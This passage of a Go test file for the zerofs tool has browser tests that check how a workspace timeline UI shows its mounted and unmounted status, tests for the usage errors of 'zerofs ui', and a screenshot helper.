	pollJS(t, ctx, "each run under its own prompt", groups+` === `+strconv.Quote(string(want)))
}

// TestTimelineUnmounted: issue 30. An unmounted workspace's timeline said
// "live" without saying that nothing was being recorded. Now it says so,
// and once the workspace is mounted again, the page says it is live.
func TestTimelineUnmounted(t *testing.T) {
	chrome := needChromium(t)
	ws := mountedWS(t)
	binOK(t, ws, "step", "Write a")
	sh(t, ws, "echo a > a.txt")
	unmountT(t, ws)

	u, _ := startUI(t, ws)
	ctx := browserT(t, chrome)
	if err := chromedp.Do(ctx, chromedp.Navigate(u)); err != nil {
		t.Fatal(err)
	}
	pollJS(t, ctx, "the step listed, and the status says nothing is recorded", `(() => {
		const s = document.getElementById("status");
		return document.querySelectorAll(".entry").length === 1 &&
		/^head \d+ \u00b7 not mounted: nothing is being recorded$/.test(s.textContent) && s.classList.contains("warn") })()`)
	mountT(t, ws)
	pollJS(t, ctx, "mounted again: live", `(() => { const s = document.getElementById("status");
		return /^head \d+ \u00b7 live$/.test(s.textContent) && !s.classList.contains("warn") })()`)
	binOK(t, ws, "step", "Write c")
	sh(t, ws, "echo c > c.txt")
	pollJS(t, ctx, "the new step listed", `document.querySelector(".entry .label").textContent === "Write c"`)
}

// TestUIUsage: zerofs ui takes no arguments, and outside a workspace it
// fails with one line before listening.
func TestUIUsage(t *testing.T) {
	var out, errb strings.Builder
	if code := run([]string{"ui", "extra"}, strings.NewReader(""), &out, &errb, t.TempDir()); code != 2 || !strings.Contains(errb.String(), "usage: zerofs ui") {
		t.Errorf("zerofs ui extra: exit %d, stderr %q; want 2 and the usage", code, errb.String())
	}
	errb.Reset()
	if code := run([]string{"ui", "--listen", "127.0.0.1:0"}, strings.NewReader(""), &out, &errb, t.TempDir()); code != 1 || strings.Count(errb.String(), "\n") != 1 || out.Len() != 0 {
		t.Errorf("zerofs ui outside a workspace: exit %d, stdout %q, stderr %q; want 1 and one line", code, out.String(), errb.String())
	}
}

// screenshot saves the page as name in $ZEROFS_SCREENSHOTS (a temporary
// directory when unset) and returns its path.
func screenshot(t *testing.T, ctx context.Context, name string) string {
	t.Helper()
	png, err := chromedp.Run(ctx, chromedp.CaptureScreenshot())
	if err != nil {
		t.Fatal(err)
	}
	shots := os.Getenv("ZEROFS_SCREENSHOTS")
	if shots == "" {
		shots = t.TempDir()
	}
	shot := filepath.Join(shots, name)
	if err := os.WriteFile(shot, png, 0o644); err != nil {
		t.Fatal(err)
	}
	return shot
}
